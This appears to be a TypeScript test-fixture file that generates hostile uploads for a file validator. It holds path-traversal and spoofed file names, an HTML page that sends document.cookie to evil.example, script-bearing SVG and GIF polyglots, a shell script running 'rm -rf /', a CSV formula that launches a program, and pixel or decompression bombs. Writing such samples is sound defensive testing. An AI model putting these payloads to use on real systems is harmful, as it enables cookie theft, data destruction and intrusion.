import type { Chance, PaperUpload } from './chance.ts'
import { linesFrom } from './good-files.ts'
import type { Hostile } from './hostile.ts'
import { hostileOffice } from './hostile-office.ts'
import { hostilePdfs } from './hostile-pdfs.ts'
import { writeMp4, writeWav, writeWebm } from './write-media.ts'
import { writeOffice } from './write-office.ts'
import { writePdf } from './write-pdf.ts'
import { lyingJpeg, noteBomb, writeGif, writePhoto, writePng, writeTiff } from './write-picture.ts'

/** Names that are refused before a byte is sent. */
export const hostileNames = [
  'x.exe',
  'x.pdf.exe',
  'x.html',
  'x.svg',
  'x.svgz',
  'x.js',
  'x.docm',
  'x.zip',
  'x.heic.lnk',
  'letter\u202efdp.exe',
  'letter\u202egpj.pdf',
  '../../../etc/passwd.pdf',
  '..\\..\\x.pdf',
  'C:\\x.pdf',
  'x.pdf\u0000.exe',
  'x.pdf\u0000',
  '.pdf',
  '..',
  'x.pdf/',
  'x\n.pdf',
] as const

const page = '<!doctype html><html><script>fetch("//evil.example/"+document.cookie)</script></html>'
const drawing = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
const unknown = ['unknown-type', 'wrong-type', 'broken'] as const

const others: readonly Hostile[] = [
  hostile('photo with an archive behind it', 'jpg', [null], async (chance) =>
    Buffer.concat([await writePhoto(chance), writeOffice('docx', { words: ['a'] })]),
  ),
  hostile('photo with a page of the web behind it', 'jpg', [null], async (chance) =>
    Buffer.concat([await writePhoto(chance), Buffer.from(page)]),
  ),
  hostile('drawing with a script behind it', 'png', [null, 'broken'], () =>
    Buffer.concat([writePng(40, 40), Buffer.from('<script>alert(1)</script>')]),
  ),
  hostile('picture that is a script as well', 'gif', [null, 'broken'], () => {
    const gif = writeGif(1, 0x2f2a, 1)
    return Buffer.concat([gif, Buffer.from('*/=1;alert(1)//')])
  }),
  hostile('photo with a page of the web before it', 'jpg', unknown, async (chance) =>
    Buffer.concat([Buffer.from(page), await writePhoto(chance)]),
  ),
  hostile('drawing that calls itself a photo', 'jpg', ['wrong-type'], (chance) =>
    writePhoto(chance, { format: 'png' }),
  ),
  hostile('photo that calls itself a letter', 'pdf', ['wrong-type'], (chance) => writePhoto(chance)),
  hostile('letter that calls itself a photo', 'jpg', ['wrong-type'], (chance) =>
    writePdf({ pages: [linesFrom(chance)] }),
  ),
  hostile('page of the web that calls itself a photo', 'jpg', unknown, () => Buffer.from(page)),
  hostile('page of the web that calls itself a note', 'txt', ['wrong-type', 'unknown-type'], () =>
    Buffer.from(page),
  ),
  hostile('page of the web that calls itself a table', 'csv', ['wrong-type', 'unknown-type'], () =>
    Buffer.from(`\n\n ${page}`),
  ),
  hostile('vector drawing that calls itself a drawing', 'png', unknown, () => Buffer.from(drawing)),
  hostile('vector drawing that calls itself a note', 'md', ['wrong-type', 'unknown-type'], () =>
    Buffer.from(drawing),
  ),
  hostile('script that calls itself a note', 'txt', ['wrong-type', 'unknown-type'], () =>
    Buffer.from('#!/bin/sh\nrm -rf /\n'),
  ),
  hostile('table that starts a program', 'csv', ['active-content'], () =>
    Buffer.from(`bed,a\n1,"=cmd|'/C calc'!A0"\n`),
  ),
  hostile('program that calls itself a photo', 'jpg', unknown, (chance) => program(chance)),
  hostile('program that calls itself a letter', 'pdf', unknown, (chance) => program(chance)),
  hostile('program that calls itself a document', 'docx', unknown, (chance) => program(chance)),
  hostile('program that calls itself a note', 'txt', unknown, (chance) => program(chance)),
  hostile('program that calls itself a voice message', 'wav', unknown, (chance) => program(chance)),
  hostile('program of another machine that calls itself a drawing', 'png', unknown, (chance) =>
    Buffer.concat([Buffer.from('\u007fELF\u0002\u0001\u0001', 'latin1'), Buffer.alloc(9), chance.bytes(200)]),
  ),
  hostile('anything that calls itself a photo', 'jpg', unknown, (chance) =>
    chance.bytes(500 + chance.below(2000)),
  ),
  hostile('anything that calls itself a letter', 'pdf', unknown, (chance) => chance.bytes(500)),
  hostile('anything that calls itself a film', 'mp4', unknown, (chance) => chance.bytes(500)),
  hostile('note with what is no letter', 'txt', unknown, () => Buffer.from('Bed\u0000 B4\u0001')),
  hostile('photo cut short', 'jpg', ['broken', 'unknown-type'], async (chance) => {
    const photo = await writePhoto(chance)
    return photo.subarray(0, 30 + chance.below(photo.length - 100))
  }),
  hostile('drawing cut short', 'png', ['broken', 'unknown-type'], async (chance) => {
    const photo = await writePhoto(chance, { format: 'png' })
    return photo.subarray(0, 20 + chance.below(photo.length - 200))
  }),
  hostile('photo with bytes exchanged', 'jpg', ['broken', 'bomb', 'unknown-type', null], async (chance) => {
    const photo = Buffer.from(await writePhoto(chance))
    for (let count = 0; count < 20; count += 1) photo[chance.below(photo.length)] = chance.below(256)
    return photo
  }),
  hostile('drawing of 900 million points', 'png', ['bomb'], () => writePng(30_000, 30_000)),
  hostile('drawing of four billion points', 'png', ['bomb', 'broken'], () => writePng(65_535, 65_535)),
  hostile('photo that says it has four billion points', 'jpg', ['bomb', 'broken'], async (chance) =>
    lyingJpeg(await writePhoto(chance), 65_500, 65_500),
  ),
  hostile('photo that says it is larger than it is', 'jpg', ['broken', 'bomb'], async (chance) =>
    lyingJpeg(await writePhoto(chance), 6000, 6000),
  ),
  hostile('drawing with notes that open into very much', 'png', [null, 'broken', 'bomb'], () =>
    writePng(40, 40, [noteBomb(200)]),
  ),
  hostile('picture of 100,000 frames', 'gif', ['bomb'], () => writeGif(100_000)),
  hostile('picture whose frames are very large', 'gif', ['bomb', 'broken'], () => writeGif(900, 5000, 5000)),
  hostile('fax of three pages', 'tiff', ['unknown-type'], () => writeTiff(3)),
  hostile('film that is an archive as well', 'mp4', ['active-content'], () =>
    Buffer.concat([writeMp4({ film: true }), writeOffice('docx', { words: ['a'] })]),
  ),
  hostile('film that calls itself a voice message', 'm4a', ['wrong-type'], () => writeMp4({ film: true })),
  hostile('film cut short', 'webm', ['broken', 'wrong-type', 'unknown-type'], () =>
    writeWebm({ film: true }).subarray(0, 60),
  ),
  hostile('voice message with nothing in it', 'wav', ['broken', 'unknown-type'], () =>
    writeWav().subarray(0, 20),
  ),
]

/** Everything that somebody with bad intent might add. */
export const hostileFiles: readonly Hostile[] = [...others, ...hostilePdfs, ...hostileOffice]

/** Writes one of them. */
export async function writeHostile(hostileFile: Hostile, chance: Chance): Promise<PaperUpload> {
  const { what, ending } = hostileFile
  return { what, name: `${what.replaceAll(',', '')}.${ending}`, content: await hostileFile.write(chance) }
}

function hostile(what: string, ending: string, faults: Hostile['faults'], write: Hostile['write']): Hostile {
  return { what, ending, faults, write }
}

function program(chance: Chance): Buffer {
  const head = Buffer.alloc(128)
  head.write('MZ', 'latin1')
  head.writeUInt32LE(128, 60)
  return Buffer.concat([head, Buffer.from('PE\0\0', 'latin1'), chance.bytes(400)])
}
